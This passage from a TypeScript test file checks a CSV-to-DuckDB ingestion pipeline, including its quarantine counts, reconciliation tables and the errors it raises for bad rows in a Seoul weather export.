  fails("weather", "impossible date 2018-02-30", (d) => replaceRow(d, "서울,108,2018-02-30,7.1,2.1,12.1,3.5"), WEATHER, /^weather-seoul-108\.csv: line 5: bad date "2018-02-30" \(expected YYYY-MM-DD\)$/),
  fails("weather", "a day twice", (d) => writeFile(d, "weather", `${readText(d, "weather")}${W404}\n`), WEATHER, /^weather-seoul-108\.csv: line 188: station 108 has two rows for 2018-04-04$/),
  fails("weather", "unterminated quote", (d) => replaceRow(d, `"${W404}`), WEATHER, /^weather-seoul-108\.csv: not a readable CSV: unterminated quoted field/)
];

// ---------------------------------------------------------------------------------------------

const TARGETS: readonly Target[] = [...RAW_FILES, "weather"];

describe("the corpus", () => {
  it("has at least 36 uniquely named cases, at least 3 per file and 5 for the weather export, with both outcomes for each", () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(36);
    expect(new Set(CORPUS.map((c) => `${c.file}: ${c.name}`)).size).toBe(CORPUS.length);
    for (const t of TARGETS) {
      const mine = CORPUS.filter((c) => c.file === t);
      expect(mine.length, t).toBeGreaterThanOrEqual(t === "weather" ? 5 : 3);
      expect(mine.some((c) => c.kind === "error"), t).toBe(true);
      expect(mine.some((c) => c.kind !== "error"), t).toBe(true);
    }
  });
});

for (const batch of plan(CORPUS)) {
  describe(batch.title, () => {
    let b: Built;
    beforeAll(async () => {
      b = await build(writeBatch(batch), batch.options);
    });
    afterAll(() => b?.duck.close());

    it("reconciles every file exactly: report, reconciliation table, tables and quarantine agree", async () => {
      const rec = await reconciliation(b);
      for (const f of RAW_FILES) {
        const mine = batch.rows.filter((r) => r.c.file === f).map((r) => r.c);
        const read = BASE[f].read + mine.reduce((s, c) => s + readOf(c), 0);
        const quarantined = addCounts(BASE[f].quarantined, ...mine.map((c) => c.quarantined));
        const r = b.report.files[f];
        balanced(r);
        expect(
          {read: r.rowsRead, accepted: r.rowsAccepted, quarantined: r.rowsQuarantined, reasons: r.quarantined, duplicates: r.duplicates, orphans: r.orphans, warnings: r.warnings},
          f
        ).toEqual({
          read,
          accepted: read - sum(quarantined),
          quarantined: sum(quarantined),
          reasons: quarantined,
          duplicates: mine.reduce((s, c) => s + duplicatesOf(c), 0),
          orphans: mine.reduce((s, c) => s + orphansOf(c), 0),
          warnings: []
        });
        expect(rec[f], f).toEqual({file: f, rows_read: r.rowsRead, rows_accepted: r.rowsAccepted, rows_quarantined: r.rowsQuarantined});
        expect((await one<{n: number}>(b, `SELECT count(*) AS n FROM ${f}`)).n, f).toBe(r.rowsAccepted);
        const byReason = await b.query<{reason: string; n: number}>("SELECT reason, count(*) AS n FROM quarantine WHERE file = $f GROUP BY reason", {f});
        expect(Object.fromEntries(byReason.map((q) => [q.reason, q.n])), f).toEqual(quarantined);
      }
      expect(rec.weather).toEqual({file: "weather", rows_read: BASE_WEATHER_DAYS, rows_accepted: BASE_WEATHER_DAYS, rows_quarantined: 0});
      expect((await one<{n: number}>(b, "SELECT count(*) AS n FROM weather")).n).toBe(BASE_WEATHER_DAYS);
      // two files are read at once, yet the per-file rows stand in INGEST_ORDER, as a read on one connection leaves them
      const rank = (f: string) => (f === "weather" ? INGEST_ORDER.length : INGEST_ORDER.indexOf(f as RawFile));
      for (const table of ["quarantine", "na_counts", "reconciliation"]) {
        const files = (await b.query<{file: string}>(`SELECT file FROM ${table} ORDER BY rowid`)).map((r) => rank(r.file));
        expect(files, table).toEqual([...files].sort((x, y) => x - y));
        if (table !== "quarantine") expect(new Set(files).size, table).toBe(table === "na_counts" ? RAW_FILES.length : RAW_FILES.length + 1);
      }
    });

    for (const {c, at} of batch.rows) {
      it(`${c.file}: ${c.name}`, async () => {
        const q = await quarantineOf(b, c.file, at);
        const reasons: Counts = {};
        for (const row of q) reasons[row.reason as keyof Counts] = (reasons[row.reason as keyof Counts] ?? 0) + 1;
        expect(reasons).toEqual(c.quarantined);
        if (c.file === "product") {
          const accepted = await one<{n: number}>(b, "SELECT count(*) AS n FROM product WHERE line_no BETWEEN $a AND $z", {a: at.first, z: at.last});
          expect(accepted.n).toBe(readOf(c) - sum(c.quarantined));
        }
        const r = b.report.files[c.file];
        expect(r.rowsRead).toBe(r.rowsAccepted + r.rowsQuarantined);
        expect((await reconciliation(b))[c.file]).toMatchObject({rows_read: r.rowsRead, rows_accepted: r.rowsAccepted, rows_quarantined: r.rowsQuarantined});
        await c.check?.(b, at);
      });
    }

    for (const c of batch.weather) {
      it(`weather: ${c.name}`, async () => {
        expect((await reconciliation(b)).weather).toMatchObject({rows_read: BASE_WEATHER_DAYS, rows_accepted: BASE_WEATHER_DAYS, rows_quarantined: 0});
        await c.check(b);
      });
    }
  });
}

describe("file-level defects stop the build with one DataError naming the file and the problem", () => {
  for (const c of CORPUS.filter((c): c is ErrorCase => c.kind === "error")) {
    it(`${c.file}: ${c.name}`, async () => {
      const dir = copyValid();
      c.mutate(dir);
      const e = await expectDataError(dir, c.errorFile, /./, c.options);
      expect(e.message).toMatch(c.message);
    });
  }
});
